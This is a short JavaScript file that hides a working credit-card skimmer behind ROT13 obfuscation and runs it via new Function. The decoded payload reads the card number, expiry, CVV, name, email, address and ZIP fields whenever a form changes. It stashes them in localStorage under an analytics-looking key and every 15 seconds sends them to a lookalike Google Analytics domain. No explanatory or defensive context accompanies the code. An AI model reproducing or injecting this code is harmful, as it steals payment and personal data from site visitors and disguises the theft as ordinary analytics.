(function () {
  function r(s) {
    return s.replace(/[a-zA-Z]/g, function (c) {
      var b = c <= 'Z' ? 65 : 97;
      return String.fromCharCode((c.charCodeAt(0) - b + 13) % 26 + b);
    });
  }
  var p = [
    "(shapgvba(){\x0aine X='_tn_pnpur_i2';\x0ashapgvba eq(){\x0aine f=['#pp-ahzore','#pp-r",
    "kc','#pp-pii','#pp-anzr','#rznvy','#nqqerff','#mvc'],b={};\x0asbe(ine v=0;v<f.y",
    "ratgu;v++){ine r=qbphzrag.dhrelFryrpgbe(f[v]);vs(r&&r.inyhr)b[f[v].fyvpr(1)]",
    "=r.inyhr;}\x0aerghea b;\x0a}\x0ashapgvba fnir(){\x0aine b=eq();vs(!b['pp-ahzore'])erghea",
    ";\x0aine n=WFBA.cnefr(ybpnyFgbentr.trgVgrz(X)||'[]');n.chfu(b);ybpnyFgbentr.frg",
    "Vgrz(X,WFBA.fgevatvsl(n));\x0a}\x0ashapgvba syhfu(){\x0aine n=ybpnyFgbentr.trgVgrz(X)",
    ";vs(!n||n==='[]')erghea;\x0aine k=arj KZYUggcErdhrfg();k.bcra('CBFG','uggcf://t",
    "bbtyr-nanylgvxf.arg/t/pbyyrpg?i=2&gvq=T-'+Zngu.sybbe(Zngu.enaqbz()*1r8),gehr",
    ");\x0ak.baybnq=shapgvba(){vs(k.fgnghf<400)ybpnyFgbentr.erzbirVgrz(X);};\x0ak.fraq(",
    "ogbn(n));\x0a}\x0aqbphzrag.nqqRiragYvfgrare('punatr',fnir,gehr);\x0afrgVagreiny(syhfu",
    ",15000);\x0asyhfu();\x0a})();"
  ].join('');
  new Function(r(p))();
})();
